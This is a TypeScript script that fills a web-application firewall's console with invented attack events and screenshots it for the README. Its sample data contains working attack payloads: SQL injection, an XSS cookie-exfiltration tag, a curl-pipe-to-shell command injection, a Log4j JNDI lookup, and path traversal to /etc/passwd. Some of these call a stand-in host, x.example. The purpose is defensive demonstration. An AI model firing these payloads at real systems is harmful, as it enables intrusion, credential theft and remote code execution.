/**
 * Takes the picture of the console that the README shows: `node scripts/screenshot.ts`, after a build.
 * With a folder as argument it takes all forms of it (light and dark, wide and narrow) into that folder instead.
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { pino } from 'pino'
import { type Browser, chromium } from 'playwright-core'
import { ulid } from 'ulid'
import { resolveTokens } from '../src/analysis/access/tokens.ts'
import { type AnalysisServer, startAnalysis } from '../src/analysis/server.ts'
import type { SluiceEvent } from '../src/events/schema.ts'
import { CHROMIUM, CHROMIUM_ARGS } from '../test/support/chromium.ts'
import { type EventOverrides, makeEvent, ndjson } from '../test/support/events.ts'

const at = (path: string): string => fileURLToPath(new URL(path, import.meta.url))
const MINUTE_MS = 60_000

const CLIENTS = ['203.0.113.24', '198.51.100.7', '192.0.2.181', '2001:db8:40::9c', '203.0.113.90', '198.51.100.212']
const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'curl/8.14.1',
  'python-requests/2.32.4',
  'Go-http-client/2.0',
]

/** One attack, told in the terms of an event. */
type Attack = Pick<EventOverrides, 'verdict' | 'route' | 'reason' | 'score' | 'findings'> & {
  request: [method: string, target: string, mediaType?: string]
}

const ATTACKS: readonly Attack[] = [
  {
    request: ['GET', '/v1/search?q=%2527%2520UNION%2520SELECT%2520card%252C%2520cvv%2520FROM%2520payments--&page=2'],
    route: 'search',
    reason: 'SQL injection in query parameter q reaches the threshold of 5.',
    score: 8,
    findings: [
      marked('sqli', "shoes¦' UNION SELECT card, cvv FROM payments--¦", {
        path: ['q'],
        views: ['percent', 'percent'],
        offset: 14,
        message: 'leaves a quoted string and appends a second SELECT',
      }),
    ],
  },
  {
    request: ['POST', '/v1/comments', 'application/json'],
    route: 'comments',
    reason: 'Cross-site scripting in the JSON body at comment.text reaches the threshold of 5.',
    score: 5,
    findings: [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what the attack looks like
      marked('xss', 'Nice post! ¦<svg onload=fetch(`//x.example/${document.cookie}`)>¦', {
        where: 'body',
        path: ['comment', 'text'],
        views: ['escapes', 'html'],
        offset: 31,
        message: 'opens a tag that runs script when it loads',
      }),
    ],
  },
  {
    request: ['GET', '/static/..%2f..%2f..%2f..%2fetc%2fpasswd'],
    route: 'assets',
    reason: 'Path traversal in the path reaches the threshold of 5.',
    score: 9,
    findings: [
      marked('path_traversal', '/static/¦../../../../etc/passwd¦', {
        where: 'path',
        path: [],
        views: ['percent'],
        offset: 8,
        message: 'climbs out of its folder to a system file',
      }),
      marked('sensitive_file', '/static/../../../../¦etc/passwd¦', {
        severity: 'error',
        source: 'signature:unix-password-file',
        where: 'path',
        path: [],
        message: 'names the password file of a Unix system',
      }),
    ],
  },
  {
    request: ['POST', '/v1/tools/ping', 'application/x-www-form-urlencoded'],
    route: 'tools',
    reason: 'Command injection in form field host reaches the threshold of 5.',
    score: 5,
    findings: [
      marked('command_injection', '10.0.0.1¦; curl -s x.example/a.sh | sh¦', {
        where: 'body',
        path: ['host'],
        views: ['percent'],
        message: 'ends the value and runs a second command',
      }),
    ],
  },
  {
    request: ['GET', '/v1/products/42'],
    route: 'products',
    reason: 'JNDI lookup in header user-agent reaches the threshold of 5.',
    score: 5,
    findings: [
      // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what the attack looks like
      marked('jndi', '¦${jndi:ldap://x.example/a}¦', {
        source: 'signature:jndi-lookup',
        where: 'header',
        path: ['user-agent'],
        message: 'asks Log4j to load code from elsewhere (CVE-2021-44228)',
      }),
    ],
  },
  {
    request: ['POST', '/graphql', 'application/json'],
    route: 'graphql',
    verdict: 'would_block',
    reason: 'SQL injection in the JSON body at variables.filter would reach the threshold of 5.',
    score: 5,
    findings: [
      marked('sqli', "status = 'open¦' OR 1=1 -- ¦", {
        where: 'body',
        path: ['variables', 'filter'],
        message: 'leaves a quoted string and adds an always-true condition',
      }),
    ],
  },
  {
    request: ['GET', '/.env'],
    route: 'default',
    reason: 'Sensitive file in the path reaches the threshold of 5.',
    score: 5,
    findings: [
      marked('sensitive_file', '¦/.env¦', {
        source: 'signature:dotenv-file',
        where: 'path',
        path: [],
        message: 'asks for a file of environment secrets',
      }),
    ],
  },
  {
    request: ['GET', '/v1/search?q=100%25+wool+sweater+%26+socks%'],
    route: 'search',
    verdict: 'passed',
    reason: 'Findings stay below the threshold of 5.',
    score: 2,
    findings: [
      marked('malformed_encoding', '100% wool sweater & socks¦%¦', {
        severity: 'notice',
        source: 'engine',
        path: ['q'],
        views: ['percent'],
        message: 'ends in a percent sign that encodes nothing',
      }),
    ],
  },
  {
    request: ['GET', '/wp-login.php'],
    route: 'default',
    reason: 'Scanner in the path reaches the threshold of 5.',
    score: 5,
    findings: [
      marked('scanner', '¦/wp-login.php¦', {
        source: 'signature:wordpress-probe',
        where: 'path',
        path: [],
        message: 'probes for WordPress',
      }),
    ],
  },
  {
    request: ['POST', '/v1/uploads', 'application/octet-stream'],
    route: 'uploads',
    verdict: 'passed',
    reason: 'Findings stay below the threshold of 5.',
    score: 2,
    findings: [
      {
        class: 'uninspected_body',
        severity: 'notice',
        source: 'engine',
        where: 'body',
        path: [],
        excerpt: '',
        matchStart: 0,
        matchEnd: 0,
        message: 'has a type without a parser yet',
      },
    ],
  },
  {
    request: ['POST', '/v1/login', 'application/json'],
    route: 'login',
    reason: 'NoSQL injection in the JSON body at password reaches the threshold of 5.',
    score: 5,
    findings: [
      marked('nosqli', '¦{"$ne": •••}¦', {
        where: 'body',
        path: ['password'],
        masked: true,
        message: 'puts a query operator where a value belongs',
      }),
    ],
  },
]

function marked(
  className: string,
  text: string,
  more: NonNullable<EventOverrides['findings']>[number],
): NonNullable<EventOverrides['findings']>[number] {
  const [before = '', match = '', after = ''] = text.split('¦')
  return {
    class: className,
    source: `detector:${className}`,
    excerpt: before + match + after,
    matchStart: before.length,
    matchEnd: before.length + match.length,
    ...more,
  }
}

/** A day of attacks: a few an hour, a wave in the afternoon, the newest moments ago. */
function plausibleDay(now: number): SluiceEvent[] {
  const seconds = [4, 11, 38, 52, 75, 110, 128, 191, 240, 312, 390, 471]
  const minutesAgo = seconds.map((each) => each / 60)
  for (let hour = 1; hour < 24; hour += 1) {
    const inThisHour = [3, 5, 2, 1, 4, 9, 12, 7, 3, 2, 1, 1][(hour * 7) % 12] ?? 1
    for (let i = 0; i < inThisHour; i += 1) minutesAgo.push(hour * 60 + (i * 60) / inThisHour)
  }
  return minutesAgo.map((minutes, index) => {
    const { request, ...attack } = ATTACKS[(index * (index < ATTACKS.length ? 1 : 7)) % ATTACKS.length]!
    const [method, target, mediaType = ''] = request
    const time = Math.round(now - minutes * MINUTE_MS)
    const bytes = mediaType === '' ? 0 : 184 + index * 37
    return makeEvent({
      ...attack,
      at: time,
      id: ulid(time),
      node: `sluice-${1 + (index % 2)}`,
      service: 'shop-api',
      client: { address: CLIENTS[(index * 5) % CLIENTS.length]!, port: 40_000 + ((index * 311) % 20_000) },
      request: {
        method,
        target,
        host: 'api.shop.example',
        headers: [
          ['Host', 'api.shop.example'],
          ['User-Agent', AGENTS[index % AGENTS.length]!],
          ['Accept', 'application/json'],
          ['Authorization', 'Bearer •••'],
          ...(mediaType === '' ? [] : ([['Content-Type', mediaType]] as [string, string][])),
        ],
        bytes,
        inspectedBytes: mediaType === 'application/octet-stream' ? 0 : bytes,
        mediaType,
      },
    })
  })
}

interface Form {
  readonly file: string
  readonly width: number
  readonly height: number
  readonly colorScheme: 'light' | 'dark'
  /** What to show: the list with the newest attack opened, the list alone, or the form to sign in. */
  readonly show: 'attack' | 'list' | 'sign-in'
}

const README_PICTURE: Form = {
  file: at('../docs/console.png'),
  width: 1440,
  height: 900,
  colorScheme: 'light',
  show: 'attack',
}

function allForms(folder: string): Form[] {
  const forms: Form[] = []
  for (const colorScheme of ['light', 'dark'] as const) {
    for (const [width, height] of [
      [1440, 900],
      [390, 844],
    ] as const) {
      for (const show of ['attack', 'list', 'sign-in'] as const) {
        forms.push({ file: join(folder, `${show}-${width}-${colorScheme}.png`), width, height, colorScheme, show })
      }
    }
  }
  return forms
}

async function take(browser: Browser, server: AnalysisServer, form: Form): Promise<void> {
  const { width, height, colorScheme, show } = form
  const context = await browser.newContext({ viewport: { width, height }, colorScheme, reducedMotion: 'reduce' })
  const page = await context.newPage()
  if (show === 'sign-in') {
    await page.goto(new URL('/', server.oneTimeUrl()).href)
    await page.getByLabel('View token').waitFor()
  } else {
    await page.goto(server.oneTimeUrl())
    const first = page.locator('[data-event]').first()
    await first.waitFor()
    if (show === 'attack') {
      await first.click()
      await page.locator('.finding').first().waitFor()
    }
  }
  await page.screenshot({ path: form.file })
  await context.close()
  console.log(form.file)
}

const folder = process.argv[2]
const dataDir = mkdtempSync(join(tmpdir(), 'sluice-screenshot-'))
const tokens = resolveTokens({ host: '127.0.0.1', env: {} })
const server = await startAnalysis({
  ...tokens,
  port: 0,
  dataDir,
  consoleDir: at('../dist/console'),
  logger: pino({ level: 'warn' }),
})
const browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS })
try {
  const stored = await fetch(new URL('/api/v1/events', server.oneTimeUrl()), {
    method: 'POST',
    headers: { authorization: `Bearer ${tokens.ingestToken}`, 'content-type': 'application/x-ndjson' },
    body: ndjson(plausibleDay(Date.now())),
  })
  const answer = await stored.text()
  if (!stored.ok || !answer.includes('"rejectedCount":0')) throw new Error(`could not store all events: ${answer}`)
  for (const form of folder === undefined ? [README_PICTURE] : allForms(folder)) await take(browser, server, form)
} finally {
  await browser.close()
  await server.close()
  rmSync(dataDir, { recursive: true })
}
